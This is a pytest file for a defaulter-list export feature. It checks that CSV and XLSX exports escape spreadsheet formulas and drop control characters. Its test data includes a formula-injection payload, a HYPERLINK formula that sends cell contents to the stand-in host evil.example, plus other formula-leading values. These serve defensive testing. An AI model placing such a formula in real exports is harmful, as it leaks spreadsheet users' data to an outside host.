"""Exports are safe to open in a spreadsheet: no live formula, no control character breaks a workbook."""

import csv
import io

import pytest
from openpyxl import load_workbook

from core.exports import text_safe
from tests.defaulters.defaulter_data import owe
from tests.factories import make_consumer

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("typed", "written"), [
    (EVIL, "'" + EVIL),
    ("+91 98390 12345", "'+91 98390 12345"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Ram\x07 Prasad\x00", "Ram Prasad"),
    ("\x01=1", "'=1"),  # a control character does not hide a formula behind it
    ("राम प्रसाद, 12/34 Ratanpur", "राम प्रसाद, 12/34 Ratanpur"),
])
def test_it_neutralises_formulas_and_drops_control_characters(typed, written):
    assert text_safe(typed) == written


@pytest.fixture
def evil_list(rtp, hsp):
    from core.dates import india_today
    from defaulters.models import DefaulterList
    from defaulters.services import defaulter_list_build_division

    owe(make_consumer(rtp, account_no="01000001", name=EVIL, address="-1+1 Lal Bangla"), "50000.00",
        days_overdue=100)
    owe(make_consumer(rtp, account_no="01000002", name="Bell\x07 Ringer", address="Juhi\x1b Kalan"), "40000.00",
        days_overdue=100)
    defaulter_list_build_division(division_id=rtp.pk, as_of=india_today(), trigger="command")
    return DefaulterList.objects.get(division=rtp, as_of=india_today())


def test_it_writes_no_live_formula_to_csv(client, officer, evil_list):
    client.force_login(officer)

    response = client.get(f"/defaulters/{evil_list.pk}/defaulters.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][2] == "'" + EVIL and rows[1][3] == "'-1+1 Lal Bangla"
    assert rows[1][4] == "50000.00"  # numbers stay numbers
    assert (rows[2][2], rows[2][3]) == ("Bell Ringer", "Juhi Kalan")


def test_it_writes_text_cells_as_text_and_survives_control_characters_in_xlsx(client, officer, evil_list):
    client.force_login(officer)

    response = client.get(f"/defaulters/{evil_list.pk}/defaulters.xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    name = sheet.cell(row=2, column=3)
    assert (name.value, name.data_type) == (EVIL, "s")  # shown as typed, never run
    assert sheet.cell(row=2, column=5).data_type == "n"
    assert sheet.cell(row=3, column=3).value == "Bell Ringer"
    assert sheet.freeze_panes == "A2"
